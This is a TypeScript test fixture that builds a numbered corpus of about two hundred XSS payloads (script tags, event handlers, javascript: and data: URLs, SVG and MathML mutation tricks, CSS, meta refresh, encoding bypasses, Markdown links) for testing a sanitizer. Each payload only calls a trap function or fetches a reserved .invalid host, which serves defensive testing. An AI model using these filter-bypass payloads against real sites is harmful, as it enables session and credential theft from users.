/**
 * The XSS corpus every entry point is tested against (issue 11): the core's unit net (extract/xss-corpus.test.ts)
 * and the end-to-end journey (e2e/specs/xss-corpus.spec.ts) read this one list. Each payload, if it ever ran,
 * calls the trap `__xssHit(N)` with its own number; each one that could fetch names its own address under
 * XSS_LEAK_ORIGIN, so a run that leaks says which payload did it. Numbers, not strings, so the call needs no
 * quotes and survives attributes, URLs and CSS alike.
 */

/** The function a payload calls when it runs; the e2e spec installs it in every frame as a trap. */
export const XSS_TRAP = '__xssHit';

/** An origin that cannot exist (.invalid is reserved): any request to it is a leak, and it never resolves. */
export const XSS_LEAK_ORIGIN = 'http://xss-leak.invalid';

export interface XssPayload {
  /** 1-based, unique; what the trap is called with and the path under XSS_LEAK_ORIGIN. */
  id: number;
  category: string;
  /** markdown: only means something to a Markdown renderer (notes, .md files); html: markup for every entry point. */
  kind: 'html' | 'markdown';
  text: string;
}

// {JS} is the trap call, {URL} the payload's own leak address, {N} its number; {B64HTML} and {B64SVG} are a page
// and an SVG that call the trap, in base64. Order matters once: <plaintext>
// swallows everything after it in a browser's parse, so it comes last.
const TEMPLATES: [category: string, kind: XssPayload['kind'], template: string][] = [
  ...html('script', [
    '<script>{JS}</script>',
    '<SCRIPT>{JS}</SCRIPT>',
    '<script src="data:text/javascript,{JS}"></script>',
    '<script src="{URL}/script.js"></script>',
    '<scr<script>ipt>{JS}</scr</script>ipt>',
    '<script type="module">{JS}</script>',
    '<script/xss>{JS}</script>',
    '<<script>{JS}//<</script>',
    '</title><script>{JS}</script>',
    '"><script>{JS}</script>',
    "'><script>{JS}</script>",
    '</textarea><script>{JS}</script>',
    '<script\n>{JS}</script\n>',
    '<script>/*</script>*/{JS}</script>',
  ]),
  ...html('event handler', [
    '<img src=x onerror={JS}>',
    '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="{JS}">',
    '<IMG SRC=x OnErRoR={JS}>',
    '<img/src=x/onerror={JS}>',
    '<img src=x onerror  =  "{JS}">',
    '<img src=x:x onerror=window["__xssHit"]({N})>',
    '<img src=`x`onerror={JS}>',
    '<img src=x onerror={JS}//',
    '<svg onload={JS}>',
    '<svg/onload={JS}>',
    '<body onload={JS}>',
    '<body onpageshow={JS}>',
    '<iframe onload={JS}></iframe>',
    '<video src=x onerror={JS}></video>',
    '<video><source onerror={JS}></video>',
    '<audio src=x onerror={JS}></audio>',
    '<details open ontoggle={JS}><summary>details</summary></details>',
    '<input autofocus onfocus={JS}>',
    '<select autofocus onfocus={JS}></select>',
    '<textarea autofocus onfocus={JS}></textarea>',
    '<keygen autofocus onfocus={JS}>',
    '<marquee onstart={JS}>marquee</marquee>',
    '<div onmouseover={JS} style="position:fixed;inset:0">cover</div>',
    '<a onmouseover={JS}>hover me</a>',
    '<p onclick={JS}>click me</p>',
    '<div tabindex=0 autofocus onfocus={JS}>focus</div>',
    '<x onclick={JS}>custom element</x>',
    '<span onanimationstart={JS} style="animation:x 1s">animated</span>',
    '<div ontransitionend={JS} style="transition:color 1s">transition</div>',
    '<picture><source srcset=x><img src=x onerror={JS}></picture>',
    '<img srcset=",,,,x" onerror={JS}>',
    '<input type=image src=x onerror={JS}>',
    '<object data=x onerror={JS}></object>',
    '<embed src=x onerror={JS}>',
    '<link rel=stylesheet href=x onerror={JS}>',
    '<style onload={JS}></style>',
    '<frameset onload={JS}>',
    '<table background=x onerror={JS}><tr><td>cell</td></tr></table>',
    '<h1 onpointerenter={JS}>heading</h1>',
    '<blockquote oncopy={JS}>quote</blockquote>',
    '<li onfocusin={JS} tabindex=1>item</li>',
    '<img src=x onerror="&#95;&#95;xssHit({N})">',
    '<img src=x onerror=\\u005f\\u005fxssHit({N})>',
    '<img\nsrc=x\nonerror={JS}>',
    '<img\tsrc=x\tonerror={JS}>',
    '<img src=x onerror={JS}\u0000>',
    '<img """><script>{JS}</script>">',
    '<math><a onclick={JS}>math link</a></math>',
    '<form><button onfocus={JS} autofocus>button</button></form>',
    '<audio controls autoplay onplay={JS}><source src=x></audio>',
  ]),
  ...html('dangerous URL', [
    '<a href="javascript:{JS}">javascript link</a>',
    '<a href="JaVaScRiPt:{JS}">mixed case</a>',
    '<a href=" javascript:{JS}">leading space</a>',
    '<a href="java\tscript:{JS}">tab inside</a>',
    '<a href="java&#x09;script:{JS}">encoded tab</a>',
    '<a href="jav&#x0A;ascript:{JS}">encoded newline</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{JS}">decimal entities</a>',
    '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;{JS}">hex entities</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{JS}">padded entities</a>',
    '<a href="javascript&colon;{JS}">named colon</a>',
    '<a href="\u0001javascript:{JS}">control character</a>',
    '<a href="javascript://%0a{JS}">comment and newline</a>',
    '<a href="vbscript:msgbox({N})">vbscript</a>',
    '<a href="data:text/html,<script>{JS}</script>">data html</a>',
    '<a href="data:text/html;base64,{B64HTML}">data base64</a>',
    '<iframe src="javascript:{JS}"></iframe>',
    '<iframe src="data:text/html,<script>{JS}</script>"></iframe>',
    '<iframe srcdoc="<script>{JS}</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror={JS}&gt;"></iframe>',
    '<form action="javascript:{JS}"><input type=submit value=submit></form>',
    '<form><button formaction="javascript:{JS}">formaction</button></form>',
    '<form id=f{N}></form><button form=f{N} formaction="javascript:{JS}">outside button</button>',
    '<input type=submit formaction=javascript:{JS} value=input>',
    '<object data="javascript:{JS}"></object>',
    '<embed src="javascript:{JS}">',
    '<img src="javascript:{JS}">',
    '<img src="data:image/svg+xml;base64,{B64SVG}">',
    '<img src="data:image/png;base64,{B64HTML}">',
    '<area href="javascript:{JS}">',
    '<a href="javascript:void(0)" onclick={JS}>void</a>',
    '<q cite="javascript:{JS}">cite</q>',
  ]),
  ...html('svg', [
    '<svg><script>{JS}</script></svg>',
    '<svg><script xlink:href="data:,{JS}"></script></svg>',
    '<svg><a xlink:href="javascript:{JS}"><text x=20 y=20>svg xlink</text></a></svg>',
    '<svg><a href="javascript:{JS}"><text x=20 y=20>svg href</text></a></svg>',
    '<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>',
    '<svg><a><animate attributeName=href values=javascript:{JS} /><text x=20 y=20>animate</text></a></svg>',
    '<svg><a><set attributeName=href to=javascript:{JS} /><text x=20 y=20>set</text></a></svg>',
    '<svg><animate onbegin={JS} attributeName=x dur=1s />',
    '<svg><set onbegin={JS} attributeName=x to=1 />',
    '<svg><image href=x onerror={JS} /></svg>',
    '<svg><desc><img src=x onerror={JS}></desc></svg>',
    '<svg><title><img src=x onerror={JS}></title></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    '<p><svg><style>*{font-family:\'</style><img/src/onerror={JS}>\'}</style></svg></p>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;image href=1 onerror={JS} /&gt;&lt;/svg&gt;#x" /></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{JS}</handler></svg>',
  ]),
  ...html('mathml', [
    '<math><mtext><table><mglyph><style><img src=x onerror={JS}>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS}&gt;">',
    '<math><mi xlink:href="javascript:{JS}">mi</mi></math>',
    '<math><maction actiontype=statusline xlink:href="javascript:{JS}">maction<mtext>x</mtext></maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror={JS}></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>',
    '<math><style><img src=x onerror={JS}></style></math>',
    '<math href="javascript:{JS}">math href</math>',
  ]),
  ...html('base and meta', [
    '<base href="{URL}/"><img src="relative.png">',
    '<base href="javascript:{JS}//">',
    '<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    '<meta http-equiv="refresh" content="0;url={URL}/refresh">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>{JS}</script>">',
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><script>{JS}</script>',
    '<meta charset="UTF-7">+ADw-script+AD4-{JS}+ADw-/script+AD4-',
  ]),
  ...html('object and embed', [
    '<object data="{URL}/object.swf"></object>',
    '<embed src="{URL}/embed.swf">',
    '<object type="text/html" data="data:text/html,<script>{JS}</script>"></object>',
    '<object><param name=src value="javascript:{JS}"></object>',
    '<applet code="{URL}/applet.class"></applet>',
  ]),
  ...html('css', [
    '<div style="background:url(javascript:{JS})">css javascript url</div>',
    '<div style="width:expression({JS})">css expression</div>',
    '<style>@import \'{URL}/import.css\';</style>',
    '<style>body{background:url({URL}/style-background.png)}</style>',
    '<div style="background-image:url({URL}/inline-background.png)">inline background</div>',
    '<div style="behavior:url({URL}/behavior.htc)">behavior</div>',
    '<style>*{-moz-binding:url({URL}/binding.xml#x)}</style>',
    '<link rel=stylesheet href="{URL}/link.css">',
    '<style>@font-face{font-family:x;src:url({URL}/font.woff)}body{font-family:x}</style>',
    '<ul style="list-style:url({URL}/list.png)"><li>list style</li></ul>',
    '<p style="--leak:url({URL}/variable.png);background:var(--leak)">css variable</p>',
    '<style>li{list-style-image:url("javascript:{JS}")}</style><ul><li>list image</li></ul>',
    '<style>@import "data:,*%7bx:expression({JS})%7d";</style>',
  ]),
  ...html('mutation', [
    '<noscript><p title="</noscript><img src=x onerror={JS}>">',
    '<noscript><style></noscript><img src=x onerror={JS}>',
    '<template><img src=x onerror={JS}></template>',
    '<template><script>{JS}</script></template>',
    '<style><img src=x onerror={JS}></style>',
    '<title><img src=x onerror={JS}></title>',
    '<textarea><img src=x onerror={JS}></textarea>',
    '<xmp><img src=x onerror={JS}></xmp>',
    '<xmp><p title="</xmp><img src=x onerror={JS}>">',
    '<noembed><img src=x onerror={JS}></noembed>',
    '<noframes><img src=x onerror={JS}></noframes>',
    '<iframe><img src=x onerror={JS}></iframe>',
    '<a title="</a><img src=x onerror={JS}>">title</a>',
    '<!--<img src="--><img src=x onerror={JS}//">',
    '<![CDATA[><img src=x onerror={JS}>]]>',
    '<?xml-stylesheet ><img src=x onerror={JS}>?>',
    '<select><template><img src=x onerror={JS}></template></select>',
    '<table><style><img src=x onerror={JS}></style></table>',
    '<listing>&lt;img src=x onerror={JS}&gt;</listing>',
    '<div id="x{N}"><a id="x{N}" name="innerHTML" href="javascript:{JS}">clobber</a></div><form id=lectern><input name=invoke></form>',
    '<img name=getElementById><img id=article-body src=x onerror={JS}>',
  ]),
  ...html('encoded text', [
    '&lt;img src=x onerror={JS}&gt;',
    '&#60;script&#62;{JS}&#60;/script&#62;',
    '&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;',
    '\\u003cscript\\u003e{JS}\\u003c/script\\u003e',
    '%3Cscript%3E{JS}%3C%2Fscript%3E',
    '<scr\u0000ipt>{JS}</scr\u0000ipt>',
    '\uFF1Cscript\uFF1E{JS}\uFF1C/script\uFF1E',
  ]),
  ...html('network', [
    '<img src="{URL}/img.png" alt="remote picture">',
    '<img srcset="{URL}/srcset.png 1x, {URL}/srcset-2x.png 2x" alt="remote srcset">',
    '<picture><source srcset="{URL}/source.webp" type="image/webp"><img src="{URL}/picture.png" alt="picture"></picture>',
    '<img src="//xss-leak.invalid/{N}/protocol-relative.png" alt="protocol relative">',
    '<img src="https://xss-leak.invalid/{N}/https.png" alt="https">',
    '<link rel=prefetch href="{URL}/prefetch">',
    '<link rel=preload as=image href="{URL}/preload.png">',
    '<link rel=dns-prefetch href="//xss-leak.invalid">',
    '<iframe src="{URL}/frame.html"></iframe>',
    '<form action="{URL}/form" method=post><input name=q value=leak><input type=submit></form>',
    '<video poster="{URL}/poster.png" src="{URL}/video.mp4" autoplay></video>',
    '<audio src="{URL}/audio.mp3" autoplay></audio>',
    '<video><track src="{URL}/track.vtt" default></video>',
    '<input type=image src="{URL}/input.png">',
    '<table background="{URL}/table.png"><tr><td>table background</td></tr></table>',
    '<body background="{URL}/body.png">',
    '<a ping="{URL}/ping" href="https://example.com/ping">ping</a>',
    '<img src="x" lowsrc="{URL}/lowsrc.png" dynsrc="{URL}/dynsrc.avi">',
    '<svg><image href="{URL}/svg-image.png" /></svg>',
    '<svg><use href="{URL}/sprite.svg#x" /></svg>',
    '<div style="background:url(//xss-leak.invalid/{N}/protocol-relative-css.png)">css protocol relative</div>',
    '<img src="http://127.0.0.1:1/{N}/loopback.png" alt="loopback">',
  ]),
  ...markdown([
    '[markdown javascript link](javascript:{JS})',
    '[mixed case](JaVaScRiPt:{JS})',
    '[entity colon](javascript&#58;{JS})',
    '[spaced]( javascript:{JS} )',
    '[angle brackets](<javascript:{JS}>)',
    '[data link](data:text/html,<script>{JS}</script>)',
    '[vbscript](vbscript:msgbox({N}))',
    '<javascript:{JS}>',
    '![markdown image](javascript:{JS})',
    '![broken attribute](x" onerror="{JS})',
    '![remote image]({URL}/markdown.png)',
    '[reference link][xss{N}]\n\n[xss{N}]: javascript:{JS}',
    '![reference image][leak{N}]\n\n[leak{N}]: {URL}/reference.png',
    '[titled](https://example.com/ "a\\" onmouseover=\\"{JS}")',
    '[<img src=x onerror={JS}>](https://example.com/inner-html)',
    '<https://example.com/"><img src=x onerror={JS}>',
    '`<img src=x onerror={JS}>` stays code',
    '[hash](#" onclick="{JS})',
    '[window](javascript:window[\'__xssHit\']({N}))',
    '<details open ontoggle={JS}>\n\n**raw html in markdown**\n\n</details>',
  ]),
  ...html('swallows the rest', ['<plaintext><img src=x onerror={JS}>']),
];

function html(category: string, templates: string[]): [string, XssPayload['kind'], string][] {
  return templates.map((template) => [category, 'html', template]);
}

function markdown(templates: string[]): [string, XssPayload['kind'], string][] {
  return templates.map((template) => ['markdown', 'markdown', template]);
}

/** Every payload, numbered, with its trap call and leak address filled in. */
export const XSS_PAYLOADS: readonly XssPayload[] = TEMPLATES.map(([category, kind, template], index) => {
  const id = index + 1;
  const js = `${XSS_TRAP}(${id})`;
  const text = template
    .replaceAll('{JS}', js)
    .replaceAll('{URL}', `${XSS_LEAK_ORIGIN}/${id}`)
    .replaceAll('{N}', String(id))
    .replaceAll('{B64HTML}', btoa(`<script>${js}</script>`))
    .replaceAll('{B64SVG}', btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`));
  return { id, category, kind, text };
});
